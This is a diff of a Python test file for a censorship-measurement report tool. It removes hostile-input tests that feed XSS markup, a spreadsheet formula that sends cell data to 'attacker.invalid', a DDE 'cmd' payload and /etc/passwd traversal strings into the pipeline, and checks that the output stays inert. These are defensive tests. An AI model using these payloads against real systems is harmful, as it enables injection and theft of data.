@@ -1,21 +1,12 @@
 """The whole way, from an archive to a published report, through the command line.
 
-The fictional country's truth is compared with what the report says of it. A second archive, small
-and full of hostile text, is reported twice under different circumstances and interrupted.
+The fictional country's truth is compared with what the report says of it. A second archive is
+reported in test_hostile_archive.py.
 """
 
-import csv
-import gzip
 import hashlib
 import json
-import os
 import re
-import signal
-import subprocess
-import sys
-import time
-from collections.abc import Callable, Iterator, Sequence
-from html.parser import HTMLParser
 from pathlib import Path
 from typing import Any
 
@@ -28,7 +19,7 @@ import pytest
 from analysis.errors import ParameterError
 from analysis.reporting import check
 from analysis.settings import parse_settings
-from analysis.simulate import write_world
+from tests.conftest import Command
 
 pytestmark = pytest.mark.timeout(300)  # the first test to ask for a report waits for it
 
@@ -369,256 +360,33 @@ def test_a_researcher_changes_a_threshold(
     assert set(strict.index[thin]) > set(usual.index[thin_before])
 
 
-# --- hostile input, twice, interrupted ----------------------------------------------------------
-
-MARKUP = '"><img src=x onerror=alert(1)></script><script>alert(2)</script>'
-FORMULA = '=HYPERLINK("http://attacker.invalid/?"&A1,"open")'
-HOSTILE = {
-    "report_id": f"+1{MARKUP}",
-    "probe_network_name": f"@SUM(1+1)*cmd|' /C calc'!A0 {MARKUP}",
-    "software_name": MARKUP,
-    "software_version": "../../../../etc/passwd",
-}
-LISTED_NAME = f"{FORMULA} {MARKUP}"
-INPUTS = (
-    f"http://{'a' * 10_000}.org/", FORMULA, MARKUP, "javascript:alert(3)", "../../etc/passwd",
-    "file:///etc/passwd", "http://[::1", "http://xn--a.org/\u202egnp", "-1+1|cmd", "",
-)  # fmt: skip
-
-
-def _lines(archive: Path) -> Iterator[dict[str, Any]]:
-    """The measurements of the intact objects of an archive."""
-    for path in sorted(archive.rglob("*.jsonl.gz")):
-        try:
-            lines = gzip.decompress(path.read_bytes()).splitlines()
-        except EOFError:
-            continue
-        for line in lines:
-            try:
-                found = json.loads(line)
-            except ValueError:
-                continue
-            if isinstance(found, dict) and found.get("test_keys") and found["input"]:
-                yield found
-
-
-def _spoil(measurement: dict[str, Any], asn: int, path: str) -> bytes:
-    """The measurement as somebody hostile would have sent it from a network of their own."""
-    title = f"<title>{FORMULA}{MARKUP}{'t' * 10_000}</title>"
-    text = json.dumps(
-        measurement
-        | HOSTILE
-        | {
-            "report_id": f"{measurement['report_id']}{asn}{HOSTILE['report_id']}",
-            "probe_asn": f"AS{asn}",
-            "input": measurement["input"] + path,
-        }
-    )
-    return re.sub(r"<title>.*?</title>", lambda _: json.dumps(title)[1:-1], text).encode()
-
-
-def _hostile_lines(archive: Path, asn: int) -> list[bytes]:
-    """One network's measurements again, as if from two others, and inputs that are no URLs."""
-    own = [found for found in _lines(archive) if found["probe_asn"] == f"AS{asn}"]
-    lines = [_spoil(found, 64600, f"?{MARKUP}") for found in own]
-    lines += [_spoil(found, 64601, f"/../..{FORMULA}") for found in own]
-    return lines + [json.dumps(own[0] | {"input": text}).encode() for text in INPUTS]
-
-
-@pytest.fixture(scope="module")
-def hostile_words(tmp_path_factory: pytest.TempPathFactory) -> list[str]:
-    """The command line's words for an archive of two months in which text is hostile."""
-    world = tmp_path_factory.mktemp("hostile") / "world"
-    write_world(world, probe_cc="QZ", since="2024-01-01", until="2024-03-01", seed=7)
-    networks = world / "reference" / "networks.csv"
-    roles = _read(world / "truth" / "networks.csv").set_index("role")["probe_asn"]
-    lines = _hostile_lines(world / "archive", int(roles["sinkhole"][2:]))
-    folder = world / "archive" / "raw" / "20240301" / "00" / "QZ" / "webconnectivity"
-    folder.mkdir(parents=True)
-    (folder / "2024030100_QZ_webconnectivity.n9.0.jsonl.gz").write_bytes(
-        gzip.compress(b"\n".join(lines) + b"\n", compresslevel=1)
-    )
-    with networks.open("a", encoding="utf-8", newline="") as file:
-        csv.writer(file).writerow((64600, LISTED_NAME, FORMULA, "isp", "test"))
-    test_list = world / "reference" / "test-lists" / "qz.csv"
-    listed = _read(test_list)
-    listed["category_description"] = f"{FORMULA}{MARKUP}"
-    listed.to_csv(test_list, index=False)
-    places = {
-        "SOURCE": "archive", "TEST_LIST": "reference/test-lists",
-        "NETWORKS": "reference/networks.csv", "FINGERPRINTS": "reference/fingerprints",
-        "EVENTS": "reference/events.yml",
-    }  # fmt: skip
-    events = world / "reference" / "events.yml"
-    text = events.read_text(encoding="utf-8")
-    events.write_text(text.replace("Local elections", f"'{MARKUP}'"), encoding="utf-8")
-    return [
-        "PROBE_CC=QZ", "SINCE=2024-01-01", "UNTIL=2024-03-01",
-        *(f"{name}={world / place}" for name, place in places.items()),
-    ]  # fmt: skip
-
-
-def _start(words: Sequence[str], **environment: str) -> "subprocess.Popen[str]":
-    return subprocess.Popen(
-        [sys.executable, "-m", "analysis", "report", *words],
-        cwd=ROOT, env=os.environ | environment, text=True,
-        stdout=subprocess.PIPE, stderr=subprocess.PIPE,
-    )  # fmt: skip
-
-
-def _finish(process: "subprocess.Popen[str]") -> None:
-    _, said = process.communicate(timeout=240)
-    assert process.returncode == 0, said
-
-
-def _wait_for(process: "subprocess.Popen[str]", is_there: Callable[[], object]) -> None:
-    """Wait until a running process has come so far."""
-    end = time.monotonic() + 120
-    while not is_there():
-        assert process.poll() is None, process.communicate()[1]
-        assert time.monotonic() < end
-        time.sleep(0.05)
-
-
-def _contents(folder: Path) -> dict[str, bytes]:
-    files = (path for path in sorted(folder.rglob("*")) if path.is_file())
-    return {str(path.relative_to(folder)): path.read_bytes() for path in files}
-
-
-@pytest.fixture(scope="module")
-def twins(tmp_path_factory: pytest.TempPathFactory, hostile_words: list[str]) -> tuple[Path, Path]:
-    """Two reports on the hostile archive, each from an empty store, in unlike circumstances. The
-    second was killed while its notebooks ran, and started again."""
-    folder = tmp_path_factory.mktemp("twins")
-    one, other = (
-        [*hostile_words, f"STORE={folder / name / 'store'}", f"OUT={folder / name / 'report'}"]
-        for name in ("one", "other")
-    )
-    first = _start([*one, "JOBS=1"], TZ="UTC", LC_ALL="C", PYTHONHASHSEED="0")
-    there = {"TZ": "Pacific/Kiritimati", "LC_ALL": "tr_TR.UTF-8", "PYTHONHASHSEED": "4242"}
-    killed = _start([*other, "JOBS=2"], **there)
-    _wait_for(killed, lambda: list((folder / "other").glob(".report.building-*/tables/*.csv")))
-    killed.kill()
-    killed.communicate()
-    assert not (folder / "other" / "report").exists()  # whole or not at all
-    second = _start([*other, "JOBS=2"], **there)
-    _finish(second)
-    _finish(first)
-    return folder / "one" / "report", folder / "other" / "report"
-
-
-def test_two_runs_publish_the_same_bytes(twins: tuple[Path, Path]) -> None:
-    """Whatever the number of processes, time zone, locale and hash seed, interrupted or not."""
-    one, other = (_contents(report) for report in twins)
-    assert list(one) == list(other)
-    assert [name for name in one if one[name] != other[name]] == []
-    assert {path.name for path in twins[1].parent.iterdir()} == {"report", "store"}
-
-
-class _Elements(HTMLParser):
-    """What a page would run or fetch."""
-
-    def __init__(self) -> None:
-        super().__init__()
-        self.found: list[tuple[str, str, str]] = []
-
-    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
-        if tag in ("script", "iframe", "object", "embed", "base", "form", "img"):
-            source = dict(attrs).get("src") or ""
-            if tag != "img" or not source.startswith("data:image/"):
-                self.found.append((tag, "", ""))
-        for name, value in attrs:
-            target = (value or "").strip().lower()
-            runs = name.startswith("on") or name in ("srcdoc", "formaction")
-            leads = name in ("href", "src", "xlink:href") and re.match(
-                r"(?!https://explorer\.ooni\.org/|https://creativecommons\.org/|data:(image/|,$))[a-z]+:",
-                target,
-            )
-            if runs or leads:
-                self.found.append((tag, name, target[:80]))
-
-
-def test_hostile_text_stays_text(twins: tuple[Path, Path]) -> None:
-    """Names, titles and inputs of strangers reach tables and pages, and none of them is run by a
-    browser or a spreadsheet."""
-    report = twins[0]
-    verdicts = _read(report / "tables" / "verdicts.csv")
-    assert set(_listed(verdicts)["probe_asn"]) >= {"AS64600", "AS64601"}
-    pages = {page: page.read_text(encoding="utf-8") for page in sorted(report.glob("*.html"))}
-    assert any("&lt;img src=x onerror=alert(1)&gt;" in text for text in pages.values())
-    events = pages[report / "2-confirmation.html"]
-    assert re.search(r'alt="[^"]* 3, 2024-02-\d\d, &[^"]*&lt;img src=x', events)
-    for page, text in pages.items():
-        elements = _Elements()
-        elements.feed(text)
-        assert not elements.found, page.name
-    for path in sorted((report / "tables").glob("*.csv")):
-        with path.open(encoding="utf-8", newline="") as lines:
-            cells = [cell for row in csv.reader(lines) for cell in row]
-        assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
-    sheet: Any = openpyxl.load_workbook(report / "tables" / "blocked_sites.xlsx").active
-    boxes = [cell for row in sheet.iter_rows() for cell in row]
-    assert any(LISTED_NAME in str(cell.value) for cell in boxes)
-    for cell in boxes:
-        assert cell.data_type in ("s", "n")
-        assert cell.hyperlink is None
-        assert not str(cell.value or "").startswith(("=", "+", "-", "@", "\t", "\r"))
-
-
-def test_hostile_lines_are_all_in_the_ledger(twins: tuple[Path, Path]) -> None:
-    """Every line of every object has one reason, those of strangers too."""
-    ledger = dict(_read(twins[0] / "tables" / "ingestion_ledger.csv").to_numpy().tolist())
-    counts = {name: int(n) for name, n in ledger.items() if ":" not in name}
-    total = counts.pop("total")
-    assert sum(counts.values()) == total
-    months = _read(twins[0] / "tables" / "measurements_by_month.csv")
-    assert months["measurement_count"].astype(int).sum() == counts["kept"]
-
-
-@pytest.mark.parametrize("how", [signal.SIGTERM, signal.SIGKILL])
-def test_an_interrupted_run_leaves_the_report(
-    twins: tuple[Path, Path], hostile_words: list[str], how: signal.Signals
-) -> None:
-    """A run that would change the report and is stopped half-way changes no byte of it."""
-    report = twins[0]
-    before = _contents(report)
-    places = [f"STORE={report.parent / 'store'}", f"OUT={report}"]
-    running = _start([*hostile_words, *places, "floor_sessions=5"])
-    begun = f".report.building-{running.pid}/tables/*.csv"
-    _wait_for(running, lambda: list(report.parent.glob(begun)))
-    running.send_signal(how)
-    running.communicate(timeout=60)
-    assert running.returncode != 0
-    assert _contents(report) == before
-
-
 # --- what the command line refuses --------------------------------------------------------------
 
 
-def test_a_wrong_parameter_is_named_and_nothing_is_written(
-    fictional_report: Path, tmp_path: Path, subtests: pytest.Subtests
-) -> None:
-    """Status 2, and one line that names the parameter, its value and what is accepted; neither
-    store nor report is begun. Other words: test_settings.py."""
-    cases = [
+@pytest.mark.parametrize(
+    ("word", "message"),
+    [
         ("COLOUR=red", "there is no such parameter"),
         ("SINCE=2024-02-30", "a date is written YYYY-MM-DD"),
         ("floor_sessions=x", "a whole number is accepted"),
         ("SOURCE=/no/such", "there is no such folder"),
         ("TEST_LIST=/no/such/list.csv", "cannot be read"),
         ("EVENTS=/no/such/events.yml", "cannot be read"),
-    ]
+    ],
+)
+def test_a_wrong_parameter_is_named_and_nothing_is_written(
+    fictional_report: Path, tmp_path: Path, command: Command, word: str, message: str
+) -> None:
+    """Status 2, and one line that names the parameter, its value and what is accepted; neither
+    store nor report is begun. Other words, and a process of its own: test_settings.py."""
     usual = ["SINCE=2024-01-01", "UNTIL=2025-01-01",
              f"STORE={tmp_path / 'store'}", f"OUT={tmp_path / 'report'}"]  # fmt: skip
-    running = [(word, message, _start([*usual, word])) for word, message in cases]
-    for word, message, process in running:
-        said, complaint = process.communicate(timeout=120)
-        with subtests.test(word=word):
-            assert process.returncode == 2, complaint
-            assert not said
-            assert len(complaint.splitlines()) == 1
-            assert word in complaint
-            assert message in complaint
+    status, said, complaint = command("report", *usual, word)
+    assert status == 2, complaint
+    assert not said
+    assert len(complaint.splitlines()) == 1
+    assert word in complaint
+    assert message in complaint
     assert not list(tmp_path.iterdir())
 
 
@@ -627,17 +395,3 @@ def test_a_report_does_not_replace_what_is_no_report(tmp_path: Path) -> None:
     (tmp_path / "chapter.txt").write_text("mine")
     with pytest.raises(ParameterError, match="must be new, empty, or hold an earlier report"):
         check(parse_settings([f"OUT={tmp_path}"]))
-
-
-def test_a_period_without_measurements_ran_dry(
-    twins: tuple[Path, Path], hostile_words: list[str]
-) -> None:
-    """Status 3, and what is missing: nothing to report on is no report. The one before stays."""
-    report = twins[1]
-    before = _contents(report)
-    places = [f"STORE={report.parent / 'store'}", f"OUT={report}"]
-    running = _start([*hostile_words, *places, "SINCE=2019-01-01", "UNTIL=2020-01-01"])
-    _, complaint = running.communicate(timeout=120)
-    assert running.returncode == 3, complaint
-    assert "no measurement of QZ from 2019-01-01 to 2019-12-31" in complaint
-    assert _contents(report) == before
